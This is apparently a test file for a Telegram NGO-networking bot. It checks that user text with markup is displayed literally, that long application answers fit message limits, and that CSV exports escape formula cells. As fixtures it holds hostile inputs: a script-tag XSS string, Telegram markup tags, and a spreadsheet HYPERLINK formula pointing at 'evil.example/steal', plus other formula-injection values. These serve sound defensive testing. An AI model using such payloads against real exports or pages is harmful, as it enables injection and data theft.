"""What people type is shown as they typed it, never read as markup, on every screen it
reaches; screens made of long texts still fit Telegram; exports cannot carry formulas."""

from __future__ import annotations

import csv
import io

from tests.events_flows import announce, organizer
from tests.flows import admin, card_for, onboard, register, registered_org
from tests.helpers import buttons, db_rows

HOSTILE_NAME = 'Ann & <Co> "Women"'
HOSTILE_TEXT = "<i>not italic</i> & <script>alert(1)</script> for young women"


async def test_typed_markup_is_shown_as_typed_on_every_screen(sandbox):
    boss = await admin(sandbox)
    ann = await onboard(sandbox, 12_001, "Ann <b>")
    await register(
        ann,
        HOSTILE_NAME,
        region="Naryn <b>",
        description=HOSTILE_TEXT,
        contact="naryn.example/?q=<a_href='x'>me</a>",
    )
    card = card_for(boss, HOSTILE_NAME)
    assert HOSTILE_NAME in card.text and HOSTILE_TEXT in card.text
    assert "Naryn <b>" in card.text and "https://naryn.example/?q=<a_href='x'>me</a>" in card.text
    assert not [e for e in card.entities if e["type"] == "italic"], "nothing turned italic"
    await boss.press("✅ Approve", card)

    cem = await onboard(sandbox, 12_002, "Cem")
    await registered_org(sandbox, boss, cem, "Talas Farmers")
    await cem.send("/orgs")
    await cem.press("🔎 Show 2 organizations")
    await cem.press(f"{HOSTILE_NAME} · Kyrgyzstan")
    assert HOSTILE_NAME in cem.last.text and HOSTILE_TEXT in cem.last.text
    await cem.press("🤝 Propose partnership")
    await cem.press("📨 Send without a note")
    assert "Talas Farmers" in ann.last.text
    await ann.press("✅ Accept", ann.last)
    assert f"Partnership agreed with «{HOSTILE_NAME}»" in cem.last.text
    assert "Their coordinator: Ann <b>" in cem.last.text

    altynai = await organizer(sandbox, 12_003, boss=boss)
    await announce(
        altynai,
        "<b>Forum</b> & friends",
        kind="Conference",
        end=None,
        place="Hall <3",
        contact="<tg-spoiler>x</tg-spoiler>",
    )
    announcement = next(m for m in ann.messages if "<b>Forum</b> & friends" in (m.text or ""))
    assert "Hall <3" in announcement.text and "<tg-spoiler>x</tg-spoiler>" in announcement.text
    assert not [e for e in announcement.entities if e["type"] == "spoiler"]


async def test_an_application_with_four_long_answers_is_checked_and_sent_whole(sandbox):
    altynai = await organizer(sandbox, 12_101)
    ann = await onboard(sandbox, 12_102, "Ann")
    questions = tuple((f"Question number {n}: tell us about it", ()) for n in range(1, 5))
    await announce(
        altynai,
        "Selection of coalitions",
        kind="Call for applications",
        end=None,
        questions=questions,
        apply_by="01.06.2027",
    )
    card = next(m for m in ann.messages if "Selection of coalitions" in (m.text or ""))
    await ann.press("📝 Apply", card)
    answers = [
        f"Answer {n} " + "about our coalition's work in the regions " * 24 for n in range(1, 5)
    ]
    for answer in answers:
        assert len(answer[:1000]) == 1000
        await ann.send(answer[:1000])
    summary = ann.last
    assert "Check your application" in summary.text
    assert len(summary.text) <= 4096 and "…" in summary.text
    await ann.press("📨 Send the application", summary)
    assert "Application sent" in ann.last.text
    stored = db_rows(sandbox.database_path, "SELECT answer FROM event_answers ORDER BY question_id")
    assert [r["answer"] for r in stored] == [a[:1000] for a in answers], "stored whole"


async def test_exports_neutralise_cells_a_spreadsheet_would_run(sandbox):
    boss = await admin(sandbox)
    mallory = await onboard(sandbox, 12_201, "@mallory")
    formula = '=HYPERLINK("http://evil.example/steal","Click me")'
    await registered_org(
        sandbox,
        boss,
        mallory,
        formula,
        description="+1 our best offer for all",
        contact="-2+3@cells.example",
        public=True,
    )
    await boss.send("/export")
    rows = list(csv.DictReader(io.StringIO(boss.last.document.content.decode("utf-8-sig"))))
    [row] = rows
    assert row["name"] == "'" + formula
    assert row["description"] == "'+1 our best offer for all"
    assert row["public_contact"] == "'-2+3@cells.example"

    altynai = await organizer(sandbox, 12_202, boss=boss)
    await announce(
        altynai,
        "Call",
        kind="Call for applications",
        end=None,
        questions=(("=SUM(A1:A9) of your budget?", ()),),
        apply_by="01.06.2027",
    )
    card = next(m for m in mallory.messages if "Call" in (m.text or "") and m.buttons())
    await mallory.press("📝 Apply", card)
    await mallory.send("=1+2 thousand soms")
    await mallory.press("📨 Send the application")
    await altynai.send("/myevents")
    await altynai.press("Call")
    await altynai.press("👥 Answers (CSV)")
    lines = list(csv.reader(io.StringIO(altynai.last.document.content.decode("utf-8-sig"))))
    assert lines[0][4] == "'=SUM(A1:A9) of your budget?"
    assert lines[1][0] == "'@mallory" and lines[1][4] == "'=1+2 thousand soms"


async def test_button_labels_show_names_as_they_are(sandbox):
    ann = await onboard(sandbox, 12_301, "Ann")
    await ann.send("/register")
    await ann.send("Women of Naryn")
    await ann.press("NGO")
    await ann.press("Kyrgyzstan")
    await ann.send("Naryn")
    await ann.press("Women's entrepreneurship and leadership")
    assert "✅ Women's entrepreneurship and leadership" in buttons(ann.last)
